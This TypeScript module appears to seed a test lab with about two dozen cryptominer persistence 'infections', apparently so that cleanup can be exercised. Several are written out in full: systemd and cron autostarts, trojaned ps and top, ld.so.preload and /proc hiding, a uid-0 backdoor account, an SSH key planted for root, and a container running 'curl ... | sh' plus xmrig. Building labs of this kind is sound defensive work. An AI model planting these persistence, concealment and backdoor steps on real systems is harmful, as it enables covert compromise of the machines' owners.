/** The infections of the lab, one for each way in which cases come back. */
import { type Infection, minerArguments, type Planter } from './infection.ts';

const every = (seconds: number): string =>
  `[Unit]\nDescription=refresh\n[Timer]\nOnActiveSec=1\nOnUnitActiveSec=${seconds}\nAccuracySec=100ms\n`;
const oneshot = (command: string): string =>
  `[Unit]\nDescription=refresh\n[Service]\nType=simple\nExecStart=${command}\n`;
const always = (command: string): string =>
  `[Unit]\nDescription=refresh\n[Service]\nExecStart=${command}\nRestart=always\nRestartSec=1\n[Install]\nWantedBy=multi-user.target\n`;

/** Starts it where it does not run; the shell stays its parent. */
const unlessRuns = (miner: string): string =>
  `pgrep -xf '${miner} .*' >/dev/null || ${miner} ${minerArguments} >/dev/null 2>&1`;

/** What apt keeps of a package that it installed, made anew of its files by the host's own dpkg-deb. */
const cachedPackage = (name: string): string => `
work=$(mktemp -d)
dpkg -L ${name} | while read -r path; do [ ! -f "$path" ] || cp -a --parents "$path" "$work"; done
mkdir "$work/DEBIAN"
dpkg-query -s ${name} | grep -v '^Status:\\|^Conffiles:\\|^ /' > "$work/DEBIAN/control"
mkdir -p /var/cache/apt/archives
file=$(dpkg-query -W -f '\${Package}_\${Version}_\${Architecture}' ${name} | sed 's/:/%3a/')
dpkg-deb -b "$work" "/var/cache/apt/archives/$file.deb" >/dev/null
rm -r "$work"`;

const withMiner =
  (path: string, plant: (host: Planter, command: string) => void) =>
  (host: Planter): void => {
    host.miner(path);
    plant(host, `${path} ${minerArguments}`);
  };

export const infections: readonly Infection[] = [
  {
    id: 'service',
    plant: withMiner('/usr/lib/.cache/kworkerds', (host, command) =>
      host.unit('kworkerds.service', always(command)),
    ),
    miners: ['/usr/lib/.cache/kworkerds'],
    period: 2,
    places: ['/etc/systemd/system/kworkerds.service'],
  },
  {
    id: 'mutual-respawners',
    plant(host) {
      host.miner('/var/tmp/.font/fontd');
      const guard = (other: string) =>
        `while :; do pgrep -f ${other} >/dev/null || setsid ${other} & pgrep -f /var/tmp/.font/fontd >/dev/null || /var/tmp/.font/fontd ${minerArguments} >/dev/null 2>&1 & sleep 1; done`;
      host.script('/var/tmp/.font/left', guard('/var/tmp/.font/right'));
      host.script('/var/tmp/.font/right', guard('/var/tmp/.font/left'));
      host.unit(
        'font-cache.service',
        always('/var/tmp/.font/left').replace('[Install]', 'KillMode=process\n[Install]'),
      );
    },
    miners: ['/var/tmp/.font/fontd'],
    period: 3,
    places: ['/etc/systemd/system/font-cache.service'],
  },
  {
    id: 'four-places-one-source',
    plant(host) {
      host.miner('/var/tmp/.pcp/pcpd');
      host.script('/usr/local/sbin/pcp-refresh', unlessRuns('/var/tmp/.pcp/pcpd'));
      host.put('/etc/cron.d/pcp', '* * * * * root /usr/local/sbin/pcp-refresh\n');
      host.put('/etc/systemd/system/pcp.timer', `${every(2)}[Install]\nWantedBy=timers.target\n`);
      host.put('/etc/systemd/system/pcp.service', oneshot('/usr/local/sbin/pcp-refresh'));
      host.link('/etc/systemd/system/timers.target.wants/pcp.timer', '/etc/systemd/system/pcp.timer');
      host.script(
        '/etc/init.d/pcp',
        '### BEGIN INIT INFO\n# Provides: pcp\n### END INIT INFO\n/usr/local/sbin/pcp-refresh &',
      );
      host.link('/etc/rc2.d/S99pcp', '../init.d/pcp');
      host.put('/etc/profile.d/pcp.sh', '(/usr/local/sbin/pcp-refresh >/dev/null 2>&1 &)\n');
    },
    miners: ['/var/tmp/.pcp/pcpd'],
    period: 4,
    places: [
      '/etc/cron.d/pcp',
      '/etc/systemd/system/pcp.service',
      '/etc/init.d/pcp',
      '/etc/profile.d/pcp.sh',
    ],
  },
  {
    id: 'cron-minutes',
    plant(host) {
      host.miner('/dev/shm/.x/x86');
      // /dev/shm is empty after a start: the job brings its program with it, from a folder that lasts.
      host.miner('/opt/.x/x86');
      host.put(
        '/var/spool/cron/crontabs/root',
        `* * * * * mkdir -p /dev/shm/.x; cp -n /opt/.x/x86 /dev/shm/.x/x86; ${unlessRuns('/dev/shm/.x/x86')}\n`,
        0o600,
      );
    },
    miners: ['/dev/shm/.x/x86'],
    period: 62,
    places: ['/var/spool/cron/crontabs/root'],
  },
  {
    id: 'either-or',
    plant(host) {
      host.miner('/usr/share/.zz/upd');
      host.miner('/opt/.zz/upd');
      const or = `/usr/share/.zz/upd ${minerArguments} || /opt/.zz/upd ${minerArguments}`;
      host.unit('zz.service', always(`/bin/sh -c '${or}'`));
    },
    miners: ['/usr/share/.zz/upd', '/opt/.zz/upd'],
    period: 3,
    places: ['/etc/systemd/system/zz.service'],
  },
  {
    id: 'immutable',
    plant: withMiner('/etc/.sysd/sysd', (host, command) => host.unit('sysd.service', always(command))),
    async typed(host) {
      await host.run(['chattr', '+i', '/etc/.sysd/sysd', '/etc/.sysd', '/etc/systemd/system/sysd.service']);
    },
    miners: ['/etc/.sysd/sysd'],
    period: 2,
    places: ['/etc/systemd/system/sysd.service'],
  },
  {
    id: 'preload',
    plant(host) {
      host.miner('/usr/local/lib/.w/wd');
      host.unit('wd.service', always(`/usr/local/lib/.w/wd ${minerArguments}`));
    },
    async typed(host) {
      // Inert: a library of the host under another name.
      await host.run([
        'sh',
        '-c',
        'cp /lib/*/libattr.so.1 /usr/local/lib/libprocesshider.so && echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload',
      ]);
    },
    miners: ['/usr/local/lib/.w/wd'],
    period: 2,
    typedPaths: ['/etc/ld.so.preload', '/usr/local/lib/libprocesshider.so'],
    places: ['/etc/ld.so.preload', '/etc/systemd/system/wd.service'],
  },
  {
    id: 'covered-proc',
    plant(host) {
      host.miner('/var/lib/.k/k');
      host.script(
        '/var/lib/.k/run',
        `/var/lib/.k/k ${minerArguments} &\nmount --bind /var/empty/k /proc/$!\nwait`,
      );
      host.put('/var/empty/k/comm', '');
      host.unit('k.service', always('/var/lib/.k/run'));
    },
    miners: ['/var/lib/.k/k'],
    period: 3,
    // Covers a process no more, and starts nothing.
    stays: ['/var/empty'],
    places: ['/etc/systemd/system/k.service'],
  },
  {
    id: 'replaced-tools',
    plant: withMiner('/usr/bin/.sshd/sshd', (host, command) =>
      host.unit('sshd-helper.service', always(command)),
    ),
    async typed(host) {
      const wrap = (name: string) =>
        `mv /usr/bin/${name} /usr/bin/${name}.original && printf '#!/bin/sh\\n/usr/bin/${name}.original "$@" | grep -v sshd\\n' > /usr/bin/${name} && chmod 755 /usr/bin/${name}`;
      await host.run(['sh', '-ec', `${cachedPackage('procps')}\n${wrap('ps')}\n${wrap('crontab')}`]);
      // Of this one nothing is left but the package in the cache.
      await host.run(['sh', '-c', 'printf "#!/bin/sh\\nexec /usr/bin/ps\\n" > /usr/bin/top']);
    },
    miners: ['/usr/bin/.sshd/sshd'],
    period: 2,
    typedPaths: [
      ...['/usr/bin/ps', '/usr/bin/ps.original', '/usr/bin/top'],
      ...['/usr/bin/crontab', '/usr/bin/crontab.original'],
    ],
    places: ['/etc/systemd/system/sshd-helper.service'],
  },
  {
    id: 'accounts-and-keys',
    plant(host) {
      host.miner('/home/.sys/sys');
      host.unit('sys.service', always(`/home/.sys/sys ${minerArguments}`));
    },
    async typed(host) {
      const key =
        'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINPT09PT09PT09PT09PT09PT09PT09PT09PT09PT09PT09PT09PT mdrfckr';
      const lines = [
        `echo 'sysadm:x:0:0::/root:/bin/bash' >> /etc/passwd`,
        `echo 'sysadm:*:20000:0:99999:7:::' >> /etc/shadow`,
        `mkdir -p /usr/games/.ssh && echo '${key}' > /usr/games/.ssh/authorized_keys && chmod 600 /usr/games/.ssh/authorized_keys`,
        `sed -i 's#^games:.*#games:x:5:60:games:/usr/games:/bin/bash#' /etc/passwd`,
        `mkdir -p -m 700 /root/.ssh && echo '${key}' >> /root/.ssh/authorized_keys`,
      ];
      await host.run(['sh', '-ec', lines.join('\n')]);
    },
    miners: ['/home/.sys/sys'],
    period: 2,
    typedPaths: [
      '/etc/passwd',
      '/etc/shadow',
      '/usr/games/.ssh',
      '/usr/games/.ssh/authorized_keys',
      '/root/.ssh/authorized_keys',
    ],
    places: ['/etc/passwd', '/usr/games/.ssh/authorized_keys', '/root/.ssh/authorized_keys'],
  },
  {
    id: 'container-restart-policy',
    plant(host) {
      const id = 'c0ffee'.padEnd(64, '0');
      const folder = `/var/lib/docker/containers/${id}`;
      const state = { Running: false, Pid: 0 };
      const config = {
        Entrypoint: ['/bin/sh', '-c'],
        Cmd: [`curl -fsSL http://192.0.2.66/x.sh | sh; /tmp/xmrig -o ${'stratum+tcp://192.0.2.66:3333'}`],
        Image: 'alpine',
      };
      host.put(
        `${folder}/config.v2.json`,
        JSON.stringify({
          ID: id,
          Name: '/alpine-up',
          State: state,
          Path: '/bin/sh',
          Args: ['-c', config.Cmd[0]],
          Config: config,
        }),
        0o600,
      );
      const binds = {
        Binds: ['/:/host'],
        Privileged: true,
        PidMode: 'host',
        RestartPolicy: { Name: 'always' },
      };
      host.put(`${folder}/hostconfig.json`, JSON.stringify(binds), 0o600);
    },
    miners: [],
    period: undefined,
    byHand: true,
    // No daemon runs here, so its restart policy goes in its file.
    edited: [`/var/lib/docker/containers/${'c0ffee'.padEnd(64, '0')}/hostconfig.json`],
    stays: ['/var/lib/docker'],
    places: [`/var/lib/docker/containers/${'c0ffee'.padEnd(64, '0')}/config.v2.json`],
  },
  {
    id: 'user-unit',
    plant(host) {
      host.miner('/root/.config/.dbus/dbus-helper');
      host.put('/var/lib/systemd/linger/root', '');
      host.put(
        '/root/.config/systemd/user/dbus-helper.service',
        always(`/root/.config/.dbus/dbus-helper ${minerArguments}`).replace('multi-user', 'default'),
      );
      host.link(
        '/root/.config/systemd/user/default.target.wants/dbus-helper.service',
        '/root/.config/systemd/user/dbus-helper.service',
      );
    },
    miners: ['/root/.config/.dbus/dbus-helper'],
    period: 2,
    places: ['/root/.config/systemd/user/dbus-helper.service'],
  },
  {
    id: 'at-again',
    plant(host) {
      host.miner('/var/spool/.a/a');
      host.script(
        '/var/spool/.a/again',
        `echo /var/spool/.a/again | at -M now + 1 minute\n${unlessRuns('/var/spool/.a/a')}`,
      );
      host.link('/etc/systemd/system/multi-user.target.wants/atd.service', '/lib/systemd/system/atd.service');
    },
    async typed(host) {
      await host.run(['sh', '-c', 'echo /var/spool/.a/again | at -M now']);
    },
    // The next one comes within a minute; `cron-minutes` is the one that waits for that.
    miners: ['/var/spool/.a/a'],
    period: undefined,
    typedPaths: ['/var/spool/cron/atjobs/'],
    stays: ['/etc/systemd/system/multi-user.target.wants/atd.service'],
    places: ['/var/spool/cron/atjobs/'],
  },
  {
    id: 'path-unit',
    plant(host) {
      host.miner('/usr/lib/.p/p');
      host.unit('p.path', '[Path]\nPathExistsGlob=/run/systemd/*\nUnit=p.service\n');
      host.put(
        '/etc/systemd/system/p.service',
        `[Unit]\nStartLimitIntervalSec=0\n${oneshot(`/usr/lib/.p/p ${minerArguments}`).replace('[Unit]\n', '')}`,
      );
    },
    miners: ['/usr/lib/.p/p'],
    period: 3,
    places: ['/etc/systemd/system/p.service'],
  },
  {
    id: 'udev',
    plant(host) {
      host.miner('/usr/lib/udev/.u/u');
      host.put(
        '/etc/udev/rules.d/99-net.rules',
        `ACTION=="add", SUBSYSTEM=="net", RUN+="/usr/lib/udev/.u/u ${minerArguments}"\n`,
      );
    },
    miners: ['/usr/lib/udev/.u/u'],
    period: undefined,
    places: ['/etc/udev/rules.d/99-net.rules'],
  },
  {
    id: 'pam',
    plant(host) {
      host.put(
        '/etc/pam.d/cron',
        `${host.text('/etc/pam.d/cron')}session optional pam_exec.so quiet /tmp/.pam/true\n`,
      );
      host.put('/tmp/.pam/true', '#!/bin/sh\nexec /bin/true\n', 0o755);
    },
    miners: [],
    period: undefined,
    places: ['/etc/pam.d/cron'],
  },
  {
    id: 'git-hook',
    plant(host) {
      host.miner('/srv/app/.git/objects/.g');
      host.put('/srv/app/.git/HEAD', 'ref: refs/heads/main\n');
      host.put('/srv/app/.git/config', '[core]\n\trepositoryformatversion = 0\n');
      host.put('/srv/app/.git/refs/heads/.keep', '');
      host.script('/srv/app/.git/hooks/post-checkout', unlessRuns('/srv/app/.git/objects/.g'));
    },
    miners: ['/srv/app/.git/objects/.g'],
    period: undefined,
    stays: ['/srv/app'],
    taken: ['/srv/app/.git/objects/.g', '/srv/app/.git/hooks/post-checkout'],
    places: ['/srv/app/.git/hooks/post-checkout'],
  },
  {
    id: 'pth',
    plant(host) {
      host.miner('/usr/lib/python3/dist-packages/.n/n');
      host.put(
        '/usr/lib/python3/dist-packages/zzz.pth',
        `import os; os.path.exists('/run/.n') or os.system('/usr/lib/python3/dist-packages/.n/n ${minerArguments} &')\n`,
      );
    },
    miners: ['/usr/lib/python3/dist-packages/.n/n'],
    period: undefined,
    places: ['/usr/lib/python3/dist-packages/zzz.pth'],
  },
  {
    id: 'two-gangs',
    plant(host) {
      host.miner('/tmp/.ICE-unix/kdevtmpfsi');
      host.miner('/opt/.m/mnr');
      host.miner('/var/lib/.kin/kdevtmpfsi');
      host.script(
        '/var/lib/.kin/kinsing',
        `while :; do mkdir -p /tmp/.ICE-unix; cp -n /var/lib/.kin/kdevtmpfsi /tmp/.ICE-unix/; pgrep -f ICE-unix/kdevtmpfsi >/dev/null || /tmp/.ICE-unix/kdevtmpfsi ${minerArguments} & sleep 1; done`,
      );
      host.unit('bot.service', always('/var/lib/.kin/kinsing'));
      host.unit('mnr.service', always(`/opt/.m/mnr ${minerArguments}`));
    },
    miners: ['/tmp/.ICE-unix/kdevtmpfsi', '/opt/.m/mnr'],
    period: 3,
    places: ['/etc/systemd/system/bot.service', '/etc/systemd/system/mnr.service'],
  },
  {
    id: 'pauses-when-watched',
    plant(host) {
      host.miner('/usr/lib/.q/q');
      host.script(
        '/usr/lib/.q/guard',
        `while :; do if pgrep -x 'top|htop|ps' >/dev/null; then pkill -f .q/q; else pgrep -f '.q/q light' >/dev/null || /usr/lib/.q/q ${minerArguments} & fi; sleep 1; done`,
      );
      host.unit('q.service', always('/usr/lib/.q/guard'));
    },
    miners: ['/usr/lib/.q/q'],
    period: 3,
    places: ['/etc/systemd/system/q.service'],
  },
  {
    id: 'drop-in-of-a-service',
    plant(host) {
      host.miner('/usr/lib/systemd/.d/d');
      host.put(
        '/etc/systemd/system/cron.service.d/override.conf',
        `[Service]\nExecStartPost=/bin/sh -c '/usr/lib/systemd/.d/d ${minerArguments} &'\nRestart=always\n`,
      );
    },
    miners: ['/usr/lib/systemd/.d/d'],
    period: undefined,
    // Empty now; whose it was before nobody knows.
    stays: ['/etc/systemd/system/cron.service.d'],
    places: ['/etc/systemd/system/cron.service.d/override.conf'],
  },
  {
    id: 'decoy',
    plant(host) {
      host.miner('/usr/sbin/.r/rsyslogd');
      host.unit('syslog-helper.service', always(`/usr/sbin/.r/rsyslogd ${minerArguments}`));
      // Locked, of one byte: it is there so that others do not write the file, and is no program.
      host.put('/tmp/kdevtmpfsi', '\n', 0o444);
      host.unit('chronyd.service', always('/bin/sleep infinity'));
    },
    async typed(host) {
      await host.run(['chattr', '+i', '/tmp/kdevtmpfsi']);
    },
    miners: ['/usr/sbin/.r/rsyslogd'],
    period: 2,
    stays: [
      '/etc/systemd/system/chronyd.service',
      '/etc/systemd/system/multi-user.target.wants/chronyd.service',
    ],
    places: ['/etc/systemd/system/syslog-helper.service'],
  },
  {
    id: 'supervisord',
    plant(host) {
      host.miner('/var/www/.s/s');
      host.put(
        '/etc/supervisor/conf.d/worker.conf',
        `[program:worker]\ncommand=/var/www/.s/s ${minerArguments}\nautorestart=true\nstartretries=999\n`,
      );
      host.link(
        '/etc/systemd/system/multi-user.target.wants/supervisor.service',
        '/lib/systemd/system/supervisor.service',
      );
    },
    miners: ['/var/www/.s/s'],
    period: 4,
    stays: ['/etc/systemd/system/multi-user.target.wants/supervisor.service', '/var/www'],
    places: ['/etc/supervisor/conf.d/worker.conf'],
  },
  {
    id: 'monit',
    plant(host) {
      host.miner('/var/www/.t/t');
      host.script('/var/www/.t/start', `/var/www/.t/t ${minerArguments} >/dev/null 2>&1 & wait`);
      host.put(
        '/etc/monit/conf.d/web',
        `set daemon 2\ncheck process web matching "/var/www/.t/t"\n  start program = "/bin/sh -c '/var/www/.t/start &'"\n`,
      );
      host.link(
        '/etc/systemd/system/multi-user.target.wants/monit.service',
        '/lib/systemd/system/monit.service',
      );
    },
    miners: ['/var/www/.t/t'],
    period: 8,
    stays: ['/etc/systemd/system/multi-user.target.wants/monit.service', '/var/www'],
    places: ['/etc/monit/conf.d/web'],
  },
  {
    id: 'xinetd',
    plant(host) {
      host.miner('/var/lib/.y/y');
      host.put(
        '/etc/xinetd.d/y',
        `service y\n{\n type = UNLISTED\n port = 4444\n bind = 127.0.0.1\n socket_type = stream\n protocol = tcp\n wait = no\n user = root\n server = /var/lib/.y/y\n server_args = ${minerArguments}\n disable = no\n}\n`,
      );
      host.link(
        '/etc/systemd/system/multi-user.target.wants/xinetd.service',
        '/lib/systemd/system/xinetd.service',
      );
      // Somebody knocks every two seconds.
      host.unit(
        'knock.service',
        always("/bin/bash -c 'while :; do exec 3<>/dev/tcp/127.0.0.1/4444; sleep 2; exec 3>&-; done'"),
      );
    },
    // xinetd gives a program its last name alone.
    miners: ['/var/lib/.y/y', 'y'],
    period: 6,
    stays: [
      '/etc/systemd/system/knock.service',
      '/etc/systemd/system/multi-user.target.wants/knock.service',
      '/etc/systemd/system/multi-user.target.wants/xinetd.service',
    ],
    places: ['/etc/xinetd.d/y'],
  },
];
